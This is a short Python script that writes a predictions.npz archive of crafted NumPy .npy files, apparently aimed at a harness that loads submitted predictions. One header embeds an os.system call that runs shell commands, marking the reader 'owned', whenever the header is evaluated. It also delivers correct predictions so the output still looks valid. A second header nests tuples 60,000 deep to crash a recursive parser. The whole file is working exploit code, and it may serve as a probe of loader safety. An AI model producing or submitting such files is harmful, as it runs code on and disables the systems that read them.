"""A header is a Python literal: who evaluates it runs it, and gets right predictions too; who parses it recurses."""
import struct
import sys
import zipfile

import numpy as np


def block(header, data=b"", version=(1, 0)):
    text = header.encode("latin-1")
    size = struct.pack("<H" if version == (1, 0) else "<I", len(text))
    return b"\x93NUMPY" + bytes(version) + size + text + data


def put(*entries):
    with zipfile.ZipFile("/work/predictions.npz", "w") as archive:
        for name, data in entries:
            archive.writestr(name, data)


def right():
    """Return what an honest solution predicts, for a reader that takes what it should refuse."""
    data, X = np.load("/work/train.npz"), np.load("/work/inputs.npz")["X"]
    direction = np.linalg.lstsq(data["X"], 2.0 * data["y"] - 1, rcond=None)[0]
    return (X @ direction > 0).astype("<i8")


if sys.argv[1] == "train":
    sys.exit()

run = """__import__('os').system('touch @mark@ owned; printf "the %s ran" payload >&2')"""
evil = "{'descr': (%s, '<i8')[1], 'fortran_order': False, 'shape': (400,), }\n" % run
deep = "{'descr': '<i8', 'fortran_order': False, 'shape': " + "(" * 60_000 + ")" * 60_000 + ", }\n"
put(("predictions.npy", block(evil, right().tobytes())), ("more.npy", block(deep, b"", (2, 0))))
